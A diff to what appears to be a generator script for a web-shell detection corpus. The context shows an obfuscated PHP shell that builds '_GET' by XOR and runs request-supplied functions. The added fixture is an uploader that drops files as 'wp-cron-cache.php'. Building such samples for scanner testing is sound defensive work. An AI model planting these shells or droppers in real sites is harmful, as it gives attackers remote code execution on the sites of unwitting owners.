@@ -602,3 +602,9 @@ $_ = ("'" ^ '`') . ('%' ^ '`') . ('4' ^ '`');
 $__ = '_' . $_;
 ${$__}[0](${$__}[1]);
 ''')
+# An upload moved to a fixed script name, its temporary name in a variable PHP filled in.
+w('php/sinks/uploader-fixed-name.php', '''<?php
+if (isset($attachment)) {
+    move_uploaded_file($attachment, 'wp-cron-cache.php');
+}
+''')
